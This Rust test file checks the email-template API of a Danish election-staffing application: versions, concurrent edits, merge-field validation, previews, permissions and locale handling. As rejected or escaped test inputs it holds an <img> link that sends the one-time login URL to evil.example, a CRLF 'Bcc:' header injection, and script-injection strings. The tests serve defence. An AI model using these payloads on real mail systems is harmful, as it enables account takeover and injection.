//! The texts of mails: checked as a whole, kept as versions, filled in once.

use valghalla::domain::roles::Role;
use valghalla_tests::texts::{FIELD, SCRIPT};
use valghalla_tests::{Method, json, on_both};

const BODY: &str =
    "Kære [user:full-name]\n\nVælg en adgangskode: [user:one-time-login-url]\nLog ind på [site:login-url]\n";

on_both! {
    async fn the_shipped_text_holds_until_somebody_writes_another(app: TestApp) {
        let administrator = app.administrator().await;
        let list = administrator.get("/email-templates").await.expect(200);
        assert_eq!(list["items"].as_array().unwrap().len(), 6);
        assert!(list["items"].as_array().unwrap().iter().all(|row| row["is_default"] == true && row["version"] == 0 && row["updated_at"].is_null()));
        let shipped = administrator.get("/email-templates/welcome").await;
        assert_eq!((shipped.version(), &shipped.expect(200)["locale"], &shipped.expect(200)["warnings"]), (0, &json!("da"), &json!([])));
        let required: Vec<_> = shipped.expect(200)["fields"].as_array().unwrap().iter().filter(|f| f["required"] == true).map(|f| f["name"].clone()).collect();
        assert_eq!(required, ["[user:one-time-login-url]"]);
        administrator.get("/email-templates/other").await.expect_problem(404, "not_found");
        administrator.get("/email-templates/welcome?locale=fr").await.expect_problem(400, "bad_request");

        let changed = administrator.put("/email-templates/welcome", 0, &json!({"subject": "Velkommen", "body": BODY})).await;
        let view = changed.expect(200);
        assert_eq!((changed.version(), &view["subject"], &view["is_default"]), (1, &json!("Velkommen"), &json!(false)));
        assert!(view["updated_by"].as_str().unwrap().starts_with("Navn "));
        assert_eq!(administrator.get("/email-templates/welcome?locale=en").await.expect(200)["is_default"], true);
        administrator.put("/email-templates/welcome", 0, &json!({"subject": "x", "body": BODY})).await.expect_problem(412, "stale");
        administrator.send(Method::PUT, "/email-templates/welcome", None, Some(&json!({"subject": "x", "body": BODY}))).await.expect_problem(428, "precondition_required");

        administrator.delete("/email-templates/welcome", 0).await.expect_problem(412, "stale");
        administrator.delete("/email-templates/welcome", 1).await.expect(204);
        let back = administrator.get("/email-templates/welcome").await;
        assert_eq!((back.version(), &back.expect(200)["subject"]), (2, &shipped.expect(200)["subject"]));
        let versions = administrator.get("/email-templates/welcome/versions").await.expect(200);
        let kept: Vec<_> = versions["items"].as_array().unwrap().iter().map(|v| (v["version"].as_i64().unwrap(), v["is_default"].as_bool().unwrap())).collect();
        assert_eq!(kept, [(2, true), (1, false)]);
        assert_eq!(versions["items"][1]["body"], BODY.trim_end());
    }

    async fn of_two_changes_at_once_one_is_stale(app: TestApp) {
        let administrator = app.administrator().await;
        let change = |subject: &str| json!({"subject": subject, "body": BODY});
        let (one, two) = (change("en"), change("to"));
        let (one, two) = tokio::join!(administrator.put("/email-templates/welcome", 0, &one), administrator.put("/email-templates/welcome", 0, &two));
        let mut statuses = [one.status, two.status];
        statuses.sort_unstable();
        assert_eq!(statuses, [200, 412]);
    }

    async fn a_link_that_something_is_glued_to_is_refused(app: TestApp) {
        let administrator = app.administrator().await;
        let body = "Hej\n<img src=\"http://evil.example/?x=[user:one-time-login-url]\">\n[site:login-url]";
        let answer = administrator.put("/email-templates/welcome", 0, &json!({"subject": "x", "body": body})).await;
        answer.expect_fields(&[("/body", "link_field_glued")]);
        let error = answer.expect(422)["errors"][0].clone();
        assert_eq!((&error["line"], &error["column"]), (&json!(2), &json!(34)));
    }

    async fn everything_wrong_is_told_at_once_with_its_place(app: TestApp) {
        let administrator = app.administrator().await;
        let broken = json!({"subject": "Hej [user:nmae]", "body": "Kære\n  [user:full-nam]\n[site:name og [user:one-time-login-url"});
        let answer = administrator.put("/email-templates/welcome", 0, &broken).await;
        answer.expect_fields(&[
            ("/subject", "merge_field_unknown"), ("/body", "merge_field_unknown"), ("/body", "merge_field_unclosed"),
            ("/body", "merge_field_unclosed"), ("/body", "link_field_missing"),
        ]);
        let errors = answer.expect(422)["errors"].as_array().unwrap().clone();
        let unknown = errors.iter().find(|e| e["pointer"] == "/body" && e["code"] == "merge_field_unknown").unwrap();
        assert_eq!((&unknown["line"], &unknown["column"], &unknown["suggestion"]), (&json!(2), &json!(3), &json!("[user:full-name]")));
        administrator.put("/email-templates/welcome", 0, &json!({"subject": "a\r\nBcc: x@example.dk", "body": BODY})).await.expect_fields(&[("/subject", "line_break")]);
        administrator.put("/email-templates/welcome", 0, &json!({"subject": "x"})).await.expect_fields(&[("/body", "required")]);
        administrator.put("/email-templates/welcome", 0, &json!({"subject": "x", "body": "a".repeat(20_001)})).await.expect_fields(&[("/body", "too_long")]);
        assert_eq!(administrator.get("/email-templates/welcome").await.version(), 0, "nothing was saved");
    }

    async fn a_preview_is_filled_in_and_saves_nothing(app: TestApp) {
        let officer = app.officer().await;
        let body = format!("{BODY}<b>");
        let preview = officer.post("/email-templates/welcome/preview", &json!({"subject": "Til [user:name]", "body": body})).await.expect(200);
        assert_eq!(preview["subject"], "Til birgit.dahl");
        assert!(preview["text"].as_str().unwrap().contains(&format!("{}/set-password#eksempel", app.url)));
        assert!(preview["html"].as_str().unwrap().contains("&lt;b&gt;"));
        let warned = json!({"subject": "x", "body": "[user:one-time-login-url]"});
        assert_eq!(officer.post("/email-templates/welcome/preview", &warned).await.expect(200)["warnings"], json!(["login_url_missing"]));
        assert_eq!(officer.get("/email-templates/welcome").await.version(), 0);
        assert_eq!(app.administrator().await.get("/mails").await.ids(), Vec::<String>::new());
    }

    async fn mails_are_made_from_the_text_in_force_and_queued_ones_stay(app: TestApp) {
        let administrator = app.administrator().await;
        let user = |name: &str| json!({"username": name, "full_name": "[user:one-time-login-url]", "email": format!("{name}@example.dk"), "role": "party_secretary", "grants": [], "notify": true});
        administrator.post("/users", &user("foer")).await.expect(201);
        administrator.put("/email-templates/welcome", 0, &json!({"subject": "Ny tekst", "body": BODY})).await.expect(200);
        administrator.post("/users", &user("efter")).await.expect(201);
        let page = app.anonymous().page("/dev/mails").await.text;
        assert_eq!(page.matches("<h2>Ny tekst</h2>").count(), 1);
        assert_eq!(page.matches("<article>").count(), 2);
        assert!(page.contains("Kære [user:one-time-login-url]"), "a name is never a field");
    }

    async fn a_test_mail_goes_to_oneself_once(app: TestApp) {
        let administrator = app.administrator().await;
        let text = json!({"subject": "Prøve", "body": BODY});
        let once = administrator.with("idempotency-key", "test-1");
        let first = once.post("/email-templates/welcome/test-mails", &text).await.expect(202);
        assert_eq!(once.post("/email-templates/welcome/test-mails", &text).await.expect(202), first);
        let mails = administrator.get("/mails").await.expect(200);
        assert_eq!(mails["items"].as_array().unwrap().len(), 1);
        assert_eq!((&mails["items"][0]["id"], &mails["items"][0]["kind"]), (&first["mail_id"], &json!("test")));
        assert_eq!(mails["items"][0]["recipient"], format!("{}@example.dk", administrator.username));
        assert!(app.anonymous().page("/dev/mails").await.text.contains("<h2>[Test] Prøve</h2>"));
        administrator.post("/email-templates/welcome/test-mails", &json!({"subject": "x", "body": "x"})).await.expect_fields(&[("/body", "link_field_missing")]);
    }

    async fn who_may_do_what(app: TestApp) {
        let text = json!({"subject": "x", "body": BODY});
        let officer = app.officer().await;
        officer.get("/email-templates").await.expect(200);
        officer.get("/email-templates/welcome/versions").await.expect(200);
        officer.put("/email-templates/welcome", 0, &text).await.expect_problem(403, "forbidden");
        officer.delete("/email-templates/welcome", 0).await.expect_problem(403, "forbidden");
        officer.post("/email-templates/welcome/test-mails", &text).await.expect_problem(403, "forbidden");
        for role in [Role::PartySecretary, Role::Auditor] {
            app.somebody(role).await.get("/email-templates").await.expect_problem(403, "forbidden");
        }
        app.administrator().await.put("/email-templates/welcome", 0, &text).await.expect(200);
        let elsewhere = app.another_municipality("0101").await;
        let other = app.somebody_in(elsewhere, Role::Administrator).await;
        assert_eq!(other.get("/email-templates/welcome").await.expect(200)["is_default"], true);
    }

    async fn the_staff_are_not_thanked_for_helping_a_party(app: TestApp) {
        let admin = app.administrator().await;
        for (username, role) in [("anna", "party_secretary"), ("bent", "election_officer"), ("carl", "auditor"), ("dora", "administrator")] {
            let user = json!({
                "username": username, "full_name": "Åse Ørsted", "email": format!("{username}@example.dk"), "role": role,
                "grants": [], "notify": true,
            });
            admin.post("/users", &user).await.expect(201);
        }
        for mail in app.mails().await {
            let thanks = mail.composed.text.contains("hjælper dit parti");
            assert_eq!(thanks, mail.recipient == "anna@example.dk", "{}", mail.recipient);
            assert!(mail.composed.text.contains("/set-password#"), "{}", mail.recipient);
        }
        assert_eq!(app.mails().await.len(), 4);
        let own = json!({"subject": "Til kolleger", "body": BODY});
        admin.put("/email-templates/staff_welcome", 0, &own).await.expect(200);
        assert_eq!(admin.get("/email-templates/welcome").await.expect(200)["is_default"], true);
    }

    async fn an_english_account_gets_english_mails_filled_in_whole(app: TestApp) {
        let admin = app.administrator().await;
        for (username, role) in [("anna", "party_secretary"), ("bent", "auditor")] {
            let user = json!({
                "username": username, "full_name": "Karen Blik", "email": format!("{username}@example.dk"), "role": role,
                "grants": [], "notify": true, "locale": "en",
            });
            let made = admin.post("/users", &user).await.expect(201);
            if username == "bent" {
                app.activated(made["id"].as_str().unwrap()).await;
                let path = format!("/users/{}/second-factor-resets", made["id"].as_str().unwrap());
                admin.post(&path, &json!({"reason": "Har mistet sin telefon"})).await.expect(200);
                app.anonymous().post("/auth/password-resets", &json!({"username": "bent"})).await.expect(202);
            }
        }
        // That of the new password is queued after the answer.
        let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(10);
        let mails = loop {
            let mails = app.mails().await;
            if mails.iter().any(|mail| mail.composed.subject.starts_with("Choose a new password")) {
                break mails;
            }
            assert!(tokio::time::Instant::now() < deadline, "no mail for a new password");
            tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        };
        let mut links = 0;
        for mail in &mails {
            let text = &mail.composed.text;
            assert!(text.starts_with("Dear Karen Blik\n") && text.contains("Kind regards\n"), "{text}");
            assert!(text.contains("Fredericia Kommune") && text.contains("valg@example.dk"), "{text}");
            assert!(!format!("{}{text}", mail.composed.subject).contains(['[', ']', 'æ', 'ø', 'å']), "{text}");
            links += text.matches("/set-password#").count();
        }
        assert_eq!((mails.len(), links), (3, 2), "a welcome, a link for a new password, and a notice");
    }

    async fn no_name_is_more_than_text_in_any_mail(app: TestApp) {
        let (admin, mut ids) = (app.administrator().await, Vec::new());
        let mut settings = admin.get("/settings").await.expect(200);
        settings.as_object_mut().unwrap().remove("version");
        settings["site_name"] = json!(format!("{SCRIPT} {FIELD}"));
        settings["contact"]["name"] = json!(FIELD);
        settings["contact"]["hours"] = json!(SCRIPT);
        admin.put("/settings", admin.get("/settings").await.version(), &settings).await.expect(200);
        for (path, body) in [
            ("/parties", json!({"letter": "B", "name": format!("{FIELD} {SCRIPT}")})),
            ("/sites", json!({"number": 1, "name": format!("{SCRIPT} {FIELD}")})),
            ("/duties", json!({"code": "x", "name": FIELD})),
            ("/elections", json!({"name": SCRIPT, "kind": "general", "held_on": "2098-01-01"})),
        ] {
            ids.push(admin.post(path, &body).await.expect(201)["id"].clone());
        }
        let [party, site, duty, election] = ids.try_into().unwrap();
        let path = format!("/elections/{}", election.as_str().unwrap());
        let seats = json!({"allocations": [{"site_id": site, "duty_id": duty, "party_id": party, "count": 1}]});
        admin.put(&format!("{path}/seats"), 1, &seats).await.expect(200);
        admin.post(&format!("{path}/open"), &json!({})).await.expect(200);
        let template = admin.get("/email-templates/welcome").await.expect(200);
        let fields = template["fields"].as_array().unwrap().iter().map(|field| field["name"].as_str().unwrap());
        let body: String = fields.map(|field| format!("{field}\n\n")).collect();
        admin.put("/email-templates/welcome", 0, &json!({"subject": "[site:name] [user:full-name]", "body": body})).await.expect(200);
        let user = json!({"username": "anna", "full_name": format!("{FIELD} {SCRIPT}"), "email": "anna@example.dk", "role": "party_secretary",
            "grants": [{"party_id": party, "scope": "site", "site_ids": [site]}], "notify": true});
        let user = admin.post("/users", &user).await.expect(201);
        let welcome = app.mails().await.remove(0);
        let secretary = app.activated(user["id"].as_str().unwrap()).await;
        let report = json!({"election_id": election, "site_id": site, "duty_id": duty, "party_id": party, "person": {"full_name": "Bo"}});
        let report = secretary.post("/assignments", &report).await.expect(201);
        let path = format!("/assignments/{}/withdraw", report["id"].as_str().unwrap());
        app.officer().await.post(&path, &json!({})).await.expect(200);
        let notice = app.mails().await.remove(0);
        for (mail, links, fields) in [(&welcome, 1, 5), (&notice, 0, 4)] {
            let told = format!("{}\n{}\n{}", mail.composed.subject, mail.composed.text, mail.composed.html);
            assert_eq!(mail.composed.text.matches("/set-password#").count(), links, "{told}");
            assert!(mail.composed.text.matches(FIELD).count() >= fields, "a name is never a field: {told}");
            assert!(mail.composed.text.matches(SCRIPT).count() >= 3 && mail.composed.subject.contains(SCRIPT), "{told}");
            assert!(!mail.composed.html.contains("<script") && mail.composed.html.contains("&lt;script&gt;"), "{told}");
        }
    }
}
